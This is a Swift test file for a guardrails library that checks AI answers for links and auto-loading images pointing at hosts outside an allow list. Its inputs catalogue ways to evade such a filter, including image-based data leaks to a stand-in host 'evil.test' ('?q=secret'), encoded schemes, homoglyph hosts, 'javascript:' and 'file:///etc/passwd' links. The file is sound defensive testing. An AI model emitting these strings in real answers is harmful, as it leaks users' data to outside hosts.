import Testing

@testable import Guardrails

@Suite struct URLCheckTests {
    private let strict = OutputCheck.urls(
        URLCheck(allow: ["example.com", "*.corp.example", "日本語.jp"], checksLinks: true)
    )
    private let images = OutputCheck.urls(URLCheck(allow: ["example.com"], checksLinks: false))

    @Test(arguments: [
        "![x](https://evil.test/?q=secret)", "![x](//evil.test/a)", "![x](\\\\evil.test/a)", "![x](/\\evil.test)",
        "![x]( <https://evil.test/a b> )", "![x](https://evil.test \"title\")", "![a [b] c](https://evil.test)",
        "![x](https://example.com@evil.test/)", "![x](https://example.com:443@evil.test/)",
        "![x](https://evil.test\\@example.com/)", "![x](https://example.com.evil.test/)", "![x](https:evil.test)",
        "![x](https:/evil.test)", "![x](hTTps:\\\\evil.test)", "![x](https&colon;//evil.test)",
        "![x](https&#58;//evil.test)",
        "![x](https\\://evil.test)", "![x](https://example%2ecom.evil.test)", "![x](https://evilexample.com)",
        "![x](https://ｅｖｉｌ.test/)", "![x](https://example.com。evil.test/)", "![x](https://еxample.com/)",
        "![x][r]\n\n[r]: https://evil.test/a.png", "![r]\n\n[R]: <https://evil.test/a.png>",
        "![r][]\n[r]:\n  //evil.test",
        "[![x](https://evil.test/a)](https://example.com)", "![`[`](https://evil.test/a)",
        "![a \\[ b](https://evil.test/a)",
        "<img src=https://evil.test/a>", "<IMG\nSRC = 'https://evil.test/a'>",
        "<img alt=\">\" src=\"https://evil.test/a\">",
        "<a title=\" <img src=\"https://evil.test/a\">", "<img/src=\"//evil.test\">",
        "<img srcset=\"a.png 1x, https://evil.test 2x\">",
        "<img src=\"ht\ttps://evil.test\">", "<img src=\"&#x68;ttps://evil.test\">",
        "<video poster=\"https://evil.test\">",
        "<iframe src=\"https://evil.test\">", "<link rel=stylesheet href=\"https://evil.test\">",
        "<base href=\"//evil.test/\">",
        "<div style=\"background: url('https://evil.test/a')\">", "<style>@import \"https://evil.test/a.css\"</style>",
        "<meta http-equiv=refresh content=\"0; url=https://evil.test\">",
        "<svg><image xlink:href=\"https://evil.test\"/></svg>",
        "<p\n<img src=\"https://evil.test\">", "```\n![x](https://evil.test)\n```", "![x](https://[::1]/)",
        "![x](http://2130706433/)",
        "![x](https://example.com\u{200B}.evil.test/)", "!\u{200B}[x](https://evil.test)", "！［ｘ］（ｈｔｔｐｓ：／／ｅｖｉｌ．ｔｅｓｔ／）",
    ])
    func `what is fetched from elsewhere is found`(answer: String) throws {
        let types = Set(try images.findings(in: Array(answer.utf8), of: OutputQuestion()).map(\.type))
        #expect(types == [.imageLink])
    }

    @Test(arguments: [
        "![x](https://example.com/a.png)", "![x](a.png)", "![x](/a.png)", "![x](HTTPS://EXAMPLE.COM:8443/a)",
        "![x](https://user@example.com/)", "![x](https://example.com./)", "![x](data:image/png;base64,AAAA)",
        "[x](https://evil.test)",
        "https://evil.test", "<a href=\"https://evil.test\">x</a>", "![x][r]\n\n[r]: https://example.com/a",
        "a!b [x] (https://evil.test)",
        "[r]: https://evil.test", "![x](https://ｅxample.com/)", "[note]: see below", "<img src=\"a.png\">",
        "f(a[0]) != g(b[1])",
    ])
    func `what is allowed or waits for a click is not`(answer: String) throws {
        #expect(try outputFindings(images, answer) == [])
    }

    @Test(arguments: [
        ("see https://evil.test/a.", "URL url.bare \"https://evil.test/a\""),
        ("詳しくはhttps://evil.test/をご覧", "URL url.bare \"https://evil.test/をご覧\""),
        ("<https://evil.test>", "URL url.bare \"https://evil.test\""),
        ("WWW.evil.test", "URL url.bare \"WWW.evil.test\""),
        ("[x](https://evil.test/b)", "URL url.link \"https://evil.test/b\""),
        ("[x]: https://evil.test", "URL url.link \"https://evil.test\""),
        ("<a href='//evil.test'>", "URL url.link \"//evil.test\""),
        ("https://example.com/a、https://evil.test/b", "URL url.bare \"https://evil.test/b\""),
        ("https://example.com。evil.test/", "URL url.bare \"https://example.com。evil.test/\""),
        ("https://example.com、x@evil.test/", "URL url.bare \"https://example.com、x@evil.test/\""),
        ("https:\\\\evil.test", "URL url.bare \"https:\\\\evil.test\""),
        ("corp.example https://corp.example/", "URL url.bare \"https://corp.example/\""),
        ("[x](javascript:alert(1))", "URL url.script \"javascript:alert(1)\""),
        ("[x](java&Tab;script:alert(1))", "URL url.script \"java&Tab;script:alert(1)\""),
        ("[x](data:text/html,hi)", "URL url.data \"data:text/html,hi\""),
        ("[x](file:///etc/passwd)", "URL url.link \"file:///etc/passwd\""),
        ("[x](vscode:open)", "URL url.link \"vscode:open\""),
    ])
    func `links to elsewhere are found once and where they stand`(answer: String, expected: String) throws {
        #expect(try outputFindings(strict, answer) == [expected])
    }

    @Test(arguments: [
        "https://example.com", "https://example.com.", "(https://example.com)", "**https://example.com**",
        "https://example.comをご覧ください。",
        "https://example.com。次に進みます。", "「https://example.com」", "https://a.corp.example/x?y=https://evil.test",
        "https://a.b.corp.example",
        "[x](https://example.com/redirect?u=https://evil.test)", "https://日本語.jp/", "https://xn--wgv71a119e.jp/a",
        "https://日本語.jpを見る",
        "[mail](mailto:a@evil.test)", "10:30 http / https の違い", "std::vector", "C:\\\\temp", "a://b",
        "www.corp.example、", "wwwwww.",
        "https://example.com:8080/a", "[x](#part) [y](?q) [z](../a:b)",
    ])
    func `links to allowed hosts pass, whatever is around them`(answer: String) throws {
        #expect(try outputFindings(strict, answer) == [])
    }

    @Test(arguments: [
        ("bücher.example", "xn--bcher-kva.example"), ("日本語.jp", "xn--wgv71a119e.jp"), ("ＥＸＡＭＰＬＥ．ｃｏｍ", "example.com"),
        ("例え。テスト", "xn--r8jz45g.xn--zckzah"), ("a%2Eb", "a.b"), ("example.com..", "example.com"), ("", ""),
        ("他们为什么不说中文", "xn--ihqwcrb4cv8a8dqg056pqjye"),
    ])
    func `names of hosts have one form`(name: String, expected: String) {
        #expect(HostName.ascii(Array(name.utf8)) == expected)
    }

    @Test(arguments: [
        "![", "](", "](a", "](//a", "[a]:", "<a ", "<img src=\"", "<img src='x\" ", "srcset=a ", "<i srcset=a,",
        "https://", "https://a,",
        "www.a", "url(", "<a style=url(", "![][", "&#x", "\\", "![a](https://x", "<", "://", "あhttps://い", "\u{202E}",
    ])
    func `a long text of anything takes little time`(piece: String) throws {
        let answer = Array(String(repeating: piece, count: (1 << 14) / piece.utf8.count).utf8)
        let elapsed = try ContinuousClock().measure { () throws -> Void in
            #expect(try strict.findings(in: answer, of: OutputQuestion()).count <= OutputCheck.mostFindings)
        }
        #expect(elapsed < .seconds(60))
    }

    @Test func `bytes that are no text are read too`() throws {
        let answer = Array("![\u{0}](https://".utf8) + [0xFF, 0xC0] + Array(".test/)".utf8)
        #expect(try images.findings(in: answer, of: OutputQuestion()).map(\.type).contains(.imageLink))
    }
}
